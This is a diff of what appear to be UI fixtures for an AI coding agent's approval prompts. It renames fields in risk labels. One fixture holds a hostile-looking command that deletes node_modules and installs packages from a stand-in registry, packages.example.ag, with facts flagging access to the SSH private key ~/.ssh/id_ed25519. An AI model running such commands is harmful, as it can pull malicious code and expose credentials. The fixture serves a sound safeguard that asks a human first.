@@ -160,10 +160,10 @@ const dangerous = question({
   subject: 'rm -rf node_modules\nnpm install --registry https://packages.example.ag',
   reason: 'Assisted mode asks, as there is no rater to judge it.',
   facts: [
-    { text: 'deletes node_modules/ · recursive', tone: 'plain' },
-    { text: 'fetches from packages.example.ag', tone: 'warn' },
-    { text: 'sends ~/.ssh/id_ed25519', tone: 'bad' },
-    { text: '2 commands', tone: 'plain' },
+    { says: 'deletes, with all that is in it:', what: 'node_modules', tone: 'plain' },
+    { says: 'fetches from', what: 'packages.example.ag', tone: 'warn' },
+    { says: 'reads a secret', what: '~/.ssh/id_ed25519', tone: 'bad' },
+    { says: '2 commands', tone: 'plain' },
   ],
 });
 
@@ -176,7 +176,7 @@ const fileQuestion = question({
   tool: 'edit_file',
   subject: '.vscode/settings.json',
   reason: 'This place is protected: a change there always asks.',
-  facts: [{ text: 'protected place', tone: 'warn' }],
+  facts: [{ says: 'protected place', tone: 'warn' }],
   change: [
     { kind: 'same', text: '{' },
     { kind: 'removed', text: '  "editor.tabSize": 4' },
